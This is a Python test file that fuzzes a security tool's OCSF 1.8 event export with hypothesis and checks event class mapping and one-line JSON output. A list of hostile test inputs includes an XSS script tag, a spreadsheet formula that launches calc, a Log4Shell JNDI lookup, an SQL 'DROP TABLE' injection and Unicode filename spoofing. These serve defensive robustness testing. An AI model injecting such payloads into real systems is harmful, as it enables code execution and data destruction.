"""Every event comes out as OCSF 1.8 by its published schema, and nothing that it says is lost."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ashiato.engine.api import ALL_TABLES
from ashiato.exports.feeds.json_lines import line_of
from ashiato.exports.feeds.ocsf import ocsf_events, ocsf_of
from tests.exports.published import faults_of
from tests.exports.sample_run import TOKYO, write_run

_COLUMNS = next(table for table in ALL_TABLES if table.name == "events").columns
_KINDS = ("http", "sql", "connection", "auth", "api", "app", "host", "message", "something")
#: What comes out in other words: a time as milliseconds and as text, a share as a per cent.
_RETOLD = ("event_id", "event_kind", "start_us", "end_us", "status", "level", "intrusion_confidence")
_HOSTILE = (
    "<script>alert(1)</script>", "a\x00b\x1b[2J", "=cmd|' /C calc'!A0", "\u202egnp.exe\u2066", "\ufffd\ufffd",
    "a\u2028b\u2029c\x85d", "", " ", "'; DROP TABLE events; --", "${jndi:ldap://203.0.113.9/a}", "PROPFIND",
    "GET", "read", "ended", "success", "unknown", "::ffff:203.0.113.7", "fe80::1%eth0", "203.0.113.7",
    "2001:db8::7", "999.1.1.1", "[local]", '{"a": {"b": [1, null, "x"]}}', "{" * 2000, "NaN", "-1",
)  # fmt: skip


def _texts() -> st.SearchStrategy[str]:
    return st.sampled_from(_HOSTILE) | st.text(max_size=20)


def _values(kind: str) -> st.SearchStrategy[Any]:
    if kind == "VARCHAR":
        return _texts()
    edges = st.sampled_from([0, 1, -1, 200, 404, 65_535, 65_536, 2**31 - 1, 2**62])
    return edges if kind == "BIGINT" else edges.filter(lambda number: number < 2**31)


@st.composite
def _events(draw: st.DrawFn) -> dict[str, Any]:
    columns = draw(st.just(set(_COLUMNS)) | st.sets(st.sampled_from(sorted(_COLUMNS)), max_size=30))
    event = {name: draw(_values(_COLUMNS[name])) for name in sorted(columns)}
    event |= {"event_id": draw(st.integers(1, 2**40)), "event_kind": draw(st.sampled_from(_KINDS))}
    if draw(st.booleans()):
        event |= {"start_us": draw(st.integers(-(2**45), 2**51)), "end_us": draw(st.integers(0, 2**51))}
    else:
        event = {name: value for name, value in event.items() if name not in ("start_us", "end_us")}
    if draw(st.booleans()):
        share = draw(st.floats(0, 1))
        event |= {"intrusion_confidence": share, "intruder": "I1", "technique": draw(_texts()), "level": 2}
    return event


def _leaves(value: Any) -> Iterator[Any]:
    if isinstance(value, dict | list):
        for part in value.values() if isinstance(value, dict) else value:
            yield from _leaves(part)
    else:
        yield value


@pytest.mark.slow
@settings(max_examples=60)
@given(_events())
def test_any_event_validates_and_loses_nothing(event: dict[str, Any]) -> None:
    told = ocsf_of(event, TOKYO)
    assert faults_of(told) == []
    read = json.loads(line_of(told))
    assert read == json.loads(json.dumps(told))
    held = {str(leaf) for leaf in _leaves(read)}
    left = {name: value for name, value in event.items() if name not in (*_RETOLD, "unmapped", "technique")}
    millis = {name: value for name, value in left.items() if name == "duration_us" and value % 1000 == 0}
    assert {name for name, value in left.items() if name not in millis and str(value) not in held} == set()


def test_each_kind_has_its_class() -> None:
    said = {"http_request_method": "GET", "api_operation": "GetObject", "query_text": "SELECT 1"}
    found = {kind: ocsf_of({"event_id": 1, "event_kind": kind, **said}, TOKYO) for kind in _KINDS}
    assert {kind: told["class_uid"] for kind, told in found.items()} == {
        "http": 4002, "sql": 6005, "connection": 6005, "auth": 3002, "api": 6003,
        "app": 0, "host": 0, "message": 0, "something": 0,
    }  # fmt: skip
    assert [told["type_uid"] for told in found.values()][:3] == [400203, 600504, 600599]


def test_an_object_read_is_of_the_store() -> None:
    said = {"api_operation": "GetObject", "activity_name": "read", "databucket_name": "b"}
    told = ocsf_of({"event_id": 1, "event_kind": "api", "databucket_file_path": "x/y.csv", **said}, TOKYO)
    assert (told["class_uid"], told["activity_id"]) == (6005, 1)
    bucket: Any = told["databucket"]
    assert (bucket["name"], bucket["file"]["name"], bucket["file"]["path"]) == ("b", "y.csv", "x/y.csv")


def test_a_run_comes_out_event_by_event(tmp_path: Path) -> None:
    asked = {"event_kind": "http", "http_request_method": "GET"}
    events = [{"event_id": n, "start_us": n, **asked} for n in (1, 3)]
    with write_run(tmp_path / "run", {"events": events}) as store:
        told: list[Any] = list(ocsf_events(SimpleNamespace(store=store, zone=TOKYO)))  # type: ignore[arg-type]
    assert [one["metadata"]["uid"] for one in told] == ["1", "3"]
    places = ["web/access.log:5", "db/part%3Bone%3Aa%7Cb%.csv:3-6;web/access.log:7"]
    assert [one["metadata"]["original_event_uid"] for one in told] == places
    assert [one["attacks"][0]["technique"]["uid"] for one in told] == ["T1213", "T1213"]
    assert all(one["is_alert"] and one["confidence_score"] == 98 for one in told)
    assert [faults_of(one) for one in told] == [[], []]


@pytest.mark.parametrize("text", _HOSTILE)
def test_a_line_is_one_line_whatever_it_holds(text: str) -> None:
    line = line_of({"message": text})
    assert line.decode().splitlines() == [line.decode().removesuffix("\n")]
    assert json.loads(line) == {"message": text}
